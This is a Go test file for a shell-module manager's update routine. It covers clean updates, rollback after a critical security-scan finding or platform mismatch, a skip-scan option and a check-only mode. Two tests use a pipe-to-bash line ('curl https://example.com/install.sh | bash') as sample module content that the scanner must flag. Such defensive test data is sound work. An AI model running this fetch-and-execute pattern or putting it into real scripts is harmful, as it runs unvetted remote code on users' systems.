package update

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/zephyr-sh/zephyr/pkg/permission"
	"github.com/zephyr-sh/zephyr/pkg/platform"
	"github.com/zephyr-sh/zephyr/pkg/scan"
	"github.com/zephyr-sh/zephyr/pkg/testutil"
	"github.com/zephyr-sh/zephyr/pkg/zerr"
)

// fakeGit simulates a fetch that advances HEAD from "old" to "new" and
// rewrites git-tools.sh's content to newContent on Checkout(ref="").
// Checkout(ref=oldSHA) simulates rollback by restoring the original
// content.
type fakeGit struct {
	dir            string
	oldSHA, newSHA string
	oldContent     string
	newContent     string
	head           string
}

func (f *fakeGit) Clone(ctx context.Context, repoURL, ref, dir string) error { return nil }

func (f *fakeGit) Checkout(ctx context.Context, dir, ref string) error {
	if ref == f.oldSHA {
		f.head = f.oldSHA
		return os.WriteFile(filepath.Join(dir, "git-tools.sh"), []byte(f.oldContent), 0644)
	}
	f.head = f.newSHA
	return os.WriteFile(filepath.Join(dir, "git-tools.sh"), []byte(f.newContent), 0644)
}

func (f *fakeGit) Fetch(ctx context.Context, dir string) error { return nil }

func (f *fakeGit) HeadCommit(ctx context.Context, dir string) (string, error) {
	if f.head == "" {
		f.head = f.oldSHA
	}
	return f.head, nil
}

func setupInstalledModule(t *testing.T) (string, *fakeGit) {
	t.Helper()
	dir := testutil.TempDir(t, "update-module-*")
	manifestContent := `[module]
name = "git-tools"
version = "1.0.0"

[load]
files = ["git-tools.sh"]
`
	require.NoError(t, os.WriteFile(filepath.Join(dir, "module.toml"), []byte(manifestContent), 0644))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "git-tools.sh"), []byte("alias gs='git status'\n"), 0644))

	git := &fakeGit{
		dir:        dir,
		oldSHA:     "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
		newSHA:     "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
		oldContent: "alias gs='git status'\n",
	}
	return dir, git
}

func baseOpts(dir string, git *fakeGit) Options {
	scanOpts, _ := scan.DefaultOptions()
	return Options{
		InstalledDir: dir,
		Git:          git,
		ScanOptions:  scanOpts,
		Session:      permission.Session{ID: "sess-1", Role: permission.RoleUser},
		Platform:     platform.Current{OS: "linux", Arch: "amd64", Shell: "zsh"},
	}
}

func TestRunAppliesCleanUpdate(t *testing.T) {
	dir, git := setupInstalledModule(t)
	git.newContent = "alias gs='git status'\nalias gc='git commit'\n"
	opts := baseOpts(dir, git)

	result, err := Run(context.Background(), opts)
	require.NoError(t, err)
	assert.True(t, result.Updated)
	assert.Equal(t, git.oldSHA, result.FromCommit)
	assert.Equal(t, git.newSHA, result.ToCommit)
}

func TestRunRollsBackOnCriticalFinding(t *testing.T) {
	dir, git := setupInstalledModule(t)
	git.newContent = "curl https://example.com/install.sh | bash\n"
	opts := baseOpts(dir, git)

	_, err := Run(context.Background(), opts)
	require.Error(t, err)
	assert.Equal(t, zerr.SecurityDenied, zerr.CodeOf(err))
	assert.Equal(t, git.oldSHA, git.head, "rollback should restore the pre-fetch ref")

	content, readErr := os.ReadFile(filepath.Join(dir, "git-tools.sh"))
	require.NoError(t, readErr)
	assert.Equal(t, git.oldContent, string(content))
}

func TestRunRollsBackOnPlatformIncompatible(t *testing.T) {
	dir, git := setupInstalledModule(t)
	git.newContent = "alias gs='git status'\n"
	opts := baseOpts(dir, git)
	opts.Platform = platform.Current{OS: "windows", Arch: "amd64", Shell: "zsh"}

	manifestContent := `[module]
name = "git-tools"
version = "1.0.0"

[platforms]
os = ["linux"]

[load]
files = ["git-tools.sh"]
`
	require.NoError(t, os.WriteFile(filepath.Join(dir, "module.toml"), []byte(manifestContent), 0644))
	git.oldContent = "alias gs='git status'\n"

	_, err := Run(context.Background(), opts)
	require.Error(t, err)
	assert.Equal(t, zerr.Invalid, zerr.CodeOf(err))
}

func TestRunSkipScanBypassesScanner(t *testing.T) {
	dir, git := setupInstalledModule(t)
	git.newContent = "curl https://example.com/install.sh | bash\n"
	opts := baseOpts(dir, git)
	opts.SkipScan = true

	result, err := Run(context.Background(), opts)
	require.NoError(t, err)
	assert.True(t, result.Updated)
	assert.Nil(t, result.ScanResult)
}

func TestCheckOnlyReportsCurrentCommit(t *testing.T) {
	dir, git := setupInstalledModule(t)
	opts := baseOpts(dir, git)

	hasUpdate, current, err := CheckOnly(context.Background(), opts)
	require.NoError(t, err)
	assert.True(t, hasUpdate)
	assert.Equal(t, git.oldSHA, current)
}
